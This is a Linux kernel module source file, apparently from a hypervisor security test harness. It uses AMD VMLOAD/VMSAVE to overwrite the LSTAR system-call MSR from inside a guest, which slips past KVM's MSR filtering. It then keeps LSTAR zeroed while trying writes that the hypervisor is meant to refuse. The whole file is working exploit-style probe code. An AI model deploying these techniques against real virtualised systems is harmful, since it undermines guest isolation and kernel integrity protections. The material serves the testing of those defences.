// SPDX-License-Identifier: GPL-2.0-only
/*
 * Where the guest may run guests of its own, VMLOAD sets the system call MSRs, and more, from
 * memory (APM vol. 2 15.5.2). It is no WRMSR: KVM's filter of MSRs is not asked
 * (vmload_vmsave_interception() in arch/x86/kvm/svm/svm.c), and a processor that virtualises the
 * instruction does not even leave the guest.
 */
#include <asm/msr-index.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/jiffies.h>
#include <linux/nmi.h>

#include "poke.h"
#include "registers.h"

/* APM vol. 2 table B-2: the state save area is at 0x400 of the control block. */
#define SAVED_LSTAR (0x400 + 0x208)

static unsigned long vmload(const void *block)
{
	unsigned long faulted = 1;

	asm volatile(RF_STORE("vmload")
		     : [f] "+r"(faulted)
		     : "a"(virt_to_phys((void *)block))
		     : "memory", "cc");
	return faulted;
}

static unsigned long vmsave(void *block)
{
	unsigned long faulted = 1;

	asm volatile(RF_STORE("vmsave")
		     : [f] "+r"(faulted)
		     : "a"(virt_to_phys(block))
		     : "memory", "cc");
	return faulted;
}

/* LSTAR only: the rest of what is loaded is what was there. */
static unsigned long load_lstar(u8 *block, u64 value)
{
	unsigned long faulted = vmsave(block);

	if (faulted)
		return faulted;
	*(u64 *)(block + SAVED_LSTAR) = value;
	return vmload(block);
}

unsigned long rf_vmload_lstar(void *block, u64 value)
{
	u64 efer = rf_get_msr(MSR_EFER);
	unsigned long faulted = rf_set_msr(MSR_EFER, efer | EFER_SVME);

	if (!faulted)
		faulted = load_lstar(block, value);
	rf_set_msr(MSR_EFER, efer);
	return faulted;
}

void attack_msr_vmload(struct rf_report *r)
{
	u64 before, hook = rf_entry_begin();
	unsigned long flags, faulted;
	u8 *block;

	if (!boot_cpu_has(X86_FEATURE_SVM))
		return rf_skip(r, "this guest may run no guests");
	block = (u8 *)get_zeroed_page(GFP_KERNEL);
	if (!block)
		return rf_skip(r, "no memory");
	migrate_disable();
	local_irq_save(flags);
	before = rf_get_msr(MSR_LSTAR);
	faulted = rf_vmload_lstar(block, hook);
	r->outcome = rf_get_msr(MSR_LSTAR) == hook ? RF_LANDED
		     : faulted			   ? RF_FAULTED
						   : RF_UNCHANGED;
	local_irq_restore(flags);
	rf_entry_wait(r);
	local_irq_save(flags);
	if (rf_get_msr(MSR_LSTAR) != before)
		rf_vmload_lstar(block, before);
	local_irq_restore(flags);
	rf_kept(r, "lstar", rf_get_msr(MSR_LSTAR) == before);
	migrate_enable();
	free_page((unsigned long)block);
}

void attack_lstar_zero_vmport(struct rf_report *r)
{
	void *block;

	if (!boot_cpu_has(X86_FEATURE_SVM))
		return rf_skip(r, "this guest may run no guests");
	block = (void *)get_zeroed_page(GFP_KERNEL);
	if (!block)
		return rf_skip(r, "no memory");
	rf_lstar_zero(r, rf_vmload_lstar, block);
	free_page((unsigned long)block);
}

static unsigned long store(u8 *at)
{
	unsigned long faulted = 1;

	asm volatile(RF_STORE("xorb $1, (%[p])")
		     : [f] "+r"(faulted)
		     : [p] "r"(at)
		     : "memory", "cc");
	return faulted;
}

#define TRIES_PER_SECOND 20

/*
 * LSTAR is 0 while the guest is saved, and again as often as somebody puts it back: where a VMM
 * loads it, the value that announces a kernel is not there. The store is tried all the time, so
 * that it is made as soon as the guest runs where it was moved.
 */
void attack_restore_lstar_zero(struct rf_report *r)
{
	unsigned long flags, until, next, refused = 0;
	struct rf_alias alias;
	bool landed = false;
	void *block;
	u64 before;

	if (!boot_cpu_has(X86_FEATURE_SVM))
		return rf_skip(r, "this guest may run no guests");
	block = (void *)get_zeroed_page(GFP_KERNEL);
	if (!block || !rf_aim_banner(r, &alias, 8, 1))
		return;
	rf_announce();
	/* Nothing else on this processor: a system call would go to 0. */
	preempt_disable();
	before = rf_get_msr(MSR_LSTAR);
	until = jiffies + rf_patience * HZ;
	for (next = jiffies; time_before(jiffies, until);) {
		local_irq_save(flags);
		rf_vmload_lstar(block, 0);
		local_irq_restore(flags);
		touch_softlockup_watchdog();
		if (landed || time_before(jiffies, next))
			continue;
		next = jiffies + HZ / TRIES_PER_SECOND;
		refused += store(alias.at);
		landed = r->at[0] != r->before[0];
	}
	rf_say(r, "lstar=%s refused=%lu", rf_get_msr(MSR_LSTAR) ? "back" : "zero", refused);
	local_irq_save(flags);
	rf_vmload_lstar(block, before);
	local_irq_restore(flags);
	preempt_enable();
	/* What landed may be sealed by now: it stays where undoing it is refused. */
	r->outcome = landed ? RF_LANDED : refused ? RF_FAULTED : RF_UNCHANGED;
	if (landed)
		rf_say(r, "back=%s", store(alias.at) ? "refused" : "yes");
	rf_alias_unmap(&alias);
	free_page((unsigned long)block);
}
